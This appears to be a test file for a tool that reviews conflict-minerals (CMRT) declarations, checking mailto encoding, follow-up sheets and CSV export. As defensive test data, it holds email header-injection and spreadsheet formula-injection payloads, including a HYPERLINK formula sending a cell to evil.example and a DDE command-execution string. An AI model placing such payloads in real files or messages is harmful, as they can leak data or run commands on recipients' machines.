import { parseCsv } from '../../../src/core/csv';
import { buildFollowUp } from '../../../src/core/followup/request';
import {
  encodeMailtoAddresses, encodeMailtoValue, followUpSheetRows, mailtoUrl, renderBody, renderText, smelterCsv, SMELTER_CSV_HEADER,
} from '../../../src/core/followup/render';
import type { Review } from '../../../src/core/review';
import type { SmelterAssessment } from '../../../src/core/smelters';
import { listed, notListed } from '../../support/model-factory';
import { makeReview, NOW } from './fixtures';

/** Splits "mailto:to?subject=...&body=..." into its decoded parts. */
function parseMailto(url: string): { to: string; subject?: string; body?: string; rawQuery: string } {
  expect(url.startsWith('mailto:')).toBe(true);
  const q = url.indexOf('?');
  const to = decodeURIComponent(url.slice(7, q < 0 ? undefined : q));
  const rawQuery = q < 0 ? '' : url.slice(q + 1);
  const out: { to: string; subject?: string; body?: string; rawQuery: string } = { to, rawQuery };
  for (const pair of rawQuery.split('&').filter(Boolean)) {
    const eq = pair.indexOf('=');
    const key = pair.slice(0, eq);
    const value = decodeURIComponent(pair.slice(eq + 1));
    if (key === 'subject') out.subject = value;
    else if (key === 'body') out.body = value;
    else throw new Error(`unexpected key ${key}`);
  }
  return out;
}

describe('mailto encoding (RFC 6068)', () => {
  const hostile = 'Zürich Söhne & Co. 株式会社 ? # % + = 100% 🙂';
  const review = makeReview({ smelters: [listed('CID003185')], company: { companyName: hostile, contactName: 'Renée O\'Brien' } });
  const req = buildFollowUp(review, { role: 'buyer', now: NOW, partNumbers: ['A&B', 'C+D', 'E#F'], contact: { name: 'Bob', email: 'bob@buyer.example' } });

  it('percent-encodes subject and body as UTF-8, spaces as %20 (never +), line breaks as %0D%0A', () => {
    const { url, truncated } = mailtoUrl(req, { maxLength: 100_000 });
    expect(truncated).toBe(false);
    expect(url).not.toMatch(/[\s+]/);
    expect(url).not.toMatch(/[^\x21-\x7e]/); // ASCII only
    const query = url.slice(url.indexOf('?') + 1);
    expect(query.split('&').map((p) => p.split('=')[0])).toEqual(['subject', 'body']);
    expect(url).toContain('%20');
    expect(url).toContain('%0D%0A');
    expect(url).not.toMatch(/%0A(?<!%0D%0A)/); // every LF is preceded by CR
    for (const enc of ['%26', '%3F', '%23', '%25', '%2B', '%3D', '%C3%BC', '%E6%A0%AA', '%F0%9F%99%82']) expect(url).toContain(enc);
    const parsed = parseMailto(url);
    expect(parsed.to).toBe('jane.smith@acme.example');
    expect(parsed.subject).toBe(req.subject);
    expect(parsed.subject).toContain(hostile);
    expect(parsed.body).toBe(renderBody(req).replace(/\n/g, '\r\n'));
    expect(parsed.body).toContain('Dear Renée O\'Brien,\r\n');
    expect(parsed.body).toContain('- A&B\r\n- C+D\r\n- E#F');
  });

  it('keeps "@" in the address, encodes the rest, and accepts several recipients', () => {
    expect(encodeMailtoAddresses('a@x.example, b+tag@y.example; c d@z')).toBe('a@x.example,b%2Btag@y.example,c%20d@z');
    const { url } = mailtoUrl(req, { to: 'ops@buyer.example', maxLength: 100_000 });
    expect(url.startsWith('mailto:ops@buyer.example?subject=')).toBe(true);
    expect(mailtoUrl(req, { to: '', maxLength: 100_000 }).url.startsWith('mailto:?subject=')).toBe(true);
  });

  it('normalises CR, LF and CRLF to CRLF, and survives lone surrogates', () => {
    expect(encodeMailtoValue('a\nb\r\nc\rd')).toBe('a%0D%0Ab%0D%0Ac%0D%0Ad');
    expect(encodeMailtoValue('x\uD800y')).toBe('x%EF%BF%BDy');
    expect(encodeMailtoValue('a b+c')).toBe('a%20b%2Bc');
  });

  it('a subject never spans lines', () => {
    const r = buildFollowUp(makeReview({ smelters: [listed('CID003185')], company: { companyName: 'Evil\r\nBcc: x@evil.example' } }), { role: 'buyer', now: NOW });
    const { url } = mailtoUrl(r, { maxLength: 100_000 });
    expect(parseMailto(url).subject).toBe('Your CMRT 6.5 (Evil Bcc: x@evil.example): product-level information on 1 smelter(s)');
    expect(renderText(r).split('\n')[0]).toBe('Subject: Your CMRT 6.5 (Evil Bcc: x@evil.example): product-level information on 1 smelter(s)');
  });

  it('falls back to a short note when the body is too long for a URL', () => {
    const many = buildFollowUp(makeReview({ smelters: [listed('CID003185'), listed('CID001326'), listed('CID000493'), notListed('Gold', 'Some Refinery', 'CHINA')] }), { role: 'buyer', now: NOW });
    const full = mailtoUrl(many, { maxLength: 100_000 });
    expect(full.url.length).toBeGreaterThan(1800);
    const { url, truncated } = mailtoUrl(many);
    expect(truncated).toBe(true);
    expect(url.length).toBeLessThanOrEqual(1800);
    const parsed = parseMailto(url);
    expect(parsed.subject).toBe(many.subject);
    expect(parsed.body).toBe(many.emailFallback);
    expect(parsed.body).toMatch(/paste here the text copied from CMRT Review/);
  });

  it('shortens a very long subject when even the note does not fit', () => {
    const r = buildFollowUp(makeReview({ smelters: [listed('CID003185')], company: { companyName: 'Ü'.repeat(600) } }), { role: 'buyer', now: NOW });
    const { url, truncated } = mailtoUrl(r, { maxLength: 1200 });
    expect(truncated).toBe(true);
    expect(url.length).toBeLessThanOrEqual(1200);
    const parsed = parseMailto(url);
    expect(parsed.body).toBe(r.emailFallback);
    expect(parsed.subject!.endsWith('…')).toBe(true);
    expect(r.subject.startsWith(parsed.subject!.slice(0, -1))).toBe(true);
  });
});

describe('followUpSheetRows', () => {
  it('gives the subject, the declaration reviewed, the message and the tables, as strings and numbers', () => {
    const req = buildFollowUp(makeReview({ smelters: [listed('CID003185'), listed('CID002763')], company: { contactEmail: 'jane' } }), { role: 'buyer', now: NOW, partNumbers: ['PN-1'], contact: { name: 'Bob', email: 'bob@buyer.example' } });
    const rows = followUpSheetRows(req);
    expect(rows.every((r) => r.every((c) => typeof c === 'string' || typeof c === 'number'))).toBe(true);
    expect(rows[0]).toEqual(['Follow-up request']);
    expect(rows).toContainEqual(['Subject', req.subject]);
    expect(rows).toContainEqual(['Company', 'Acme Metals Ltd.']);
    expect(rows).toContainEqual(['Template', 'CMRT 6.5']);
    expect(rows).toContainEqual(['Scope', 'A. Company']);
    expect(rows).toContainEqual(['Effective date', '2026-05-31']);
    expect(rows).toContainEqual(['Our part numbers', 'PN-1']);
    expect(rows).toContainEqual(['Response due', '2026-07-31']);
    expect(rows).toContainEqual(['Contact', 'Bob, bob@buyer.example']);
    const message = rows.findIndex((r) => r[0] === 'Message');
    const body = renderBody(req).split('\n');
    expect(rows.slice(message + 1, message + 1 + body.length)).toEqual(body.map((l) => [l]));
    const header = rows.findIndex((r) => r[0] === 'Smelter List row');
    expect(rows[header + 1]).toEqual([5, 'African Gold Refinery', 'CID003185', 'Gold', 'UGANDA', expect.any(String), expect.any(String), expect.any(String), expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/), expect.any(String)]);
    expect(rows).toContainEqual(['Declaration', 'D16', 16, 'error', 'yes', 'Provide a valid contact email (the Checker needs an "@").', '', 'checker/required']);
  });

  it('supplier mode: the fix list', () => {
    const req = buildFollowUp(makeReview({ role: 'supplier', smelters: [notListed('Gold', 'Some Refinery', 'CHINA')] }), { role: 'supplier', now: NOW });
    const rows = followUpSheetRows(req);
    expect(rows[0]).toEqual(['Fix before sending']);
    expect(rows).toContainEqual(['Points to fix']);
    expect(rows.some((r) => r[0] === 'Smelter List' && r[1] === 'D5' && r[7] === 'smelter/not-listed')).toBe(true);
    expect(rows.some((r) => r[0] === 'Response due')).toBe(false);
  });
});

describe('smelterCsv', () => {
  it('lists the smelters of interest, one row per reason, UTF-8 with BOM and CRLF', () => {
    const review = makeReview({ smelters: [listed('CID002763'), listed('CID003185')] });
    const csv = smelterCsv(review);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv).rows;
    expect(rows[0]).toEqual([...SMELTER_CSV_HEADER]);
    const soi = review.smelters.find((s) => s.cid === 'CID003185')!;
    expect(rows.slice(1)).toEqual(soi.reasons.map((x) => ['6', 'Gold', 'African Gold Refinery', 'CID003185', 'UGANDA', expect.any(String), x.message, x.source.name, x.source.date, x.source.url ?? '']));
    expect(smelterCsv(review, { bom: false }).charCodeAt(0)).not.toBe(0xfeff);
  });

  it('header only when no smelter is of interest', () => {
    expect(parseCsv(smelterCsv(makeReview({ smelters: [listed('CID002763')] }))).rows).toEqual([[...SMELTER_CSV_HEADER]]);
  });

  const TRIGGER = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]|^\s+[=+\-@]/;

  it('neutralises hostile values from a supplier\'s file (= + - @)', () => {
    const names = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2', '@SUM(A1:A9)', '  =1+1', '＝1+1'];
    const review = makeReview({ smelters: names.map((n, i) => notListed('Gold', n, i % 2 ? '-AU' : 'CHINA')) });
    const rows = parseCsv(smelterCsv(review)).rows.slice(1);
    expect(rows).toHaveLength(names.length);
    for (const [i, n] of names.entries()) {
      const row = rows[i]!;
      expect(row[2]).toBe(`'${n.trim() === n ? n : n.trim()}`);
      if (i % 2) expect(row[4]).toBe('\'-AU');
    }
    for (const r of rows) for (const c of r) expect(c).not.toMatch(TRIGGER);
  });

  it('neutralises tab and CR, and quotes quotes and line breaks', () => {
    const hostile: SmelterAssessment = {
      row: 12, metal: '@Gold', cid: null, name: '\t=cmd()', country: '\rUGANDA', interest: true, notes: [],
      reasons: [
        { category: 'watchlist', message: 'On the watch list: "quoted", with, commas\nand a new line', source: { name: '-watch.csv', date: '2026-06-01', url: '=evil()' } },
        { category: 'unrecognized', message: '+1 is not an ID', source: { name: '@list', date: '2026-06-01' } },
      ],
    };
    const review = { smelters: [hostile, { ...hostile, row: 13, interest: false }] } as unknown as Review;
    const csv = smelterCsv(review);
    const rows = parseCsv(csv).rows;
    expect(rows).toHaveLength(3);
    expect(rows[1]).toEqual(['12', '\'@Gold', '\'\t=cmd()', '', '\'\rUGANDA', 'Watch list', 'On the watch list: "quoted", with, commas\nand a new line', '\'-watch.csv', '2026-06-01', '\'=evil()']);
    expect(rows[2]!.slice(5, 9)).toEqual(['Not recognised by RMI', '\'+1 is not an ID', '\'@list', '2026-06-01']);
    expect(csv).toContain('"On the watch list: ""quoted"", with, commas\nand a new line"');
    for (const r of rows) for (const c of r) expect(c).not.toMatch(TRIGGER);
  });
});
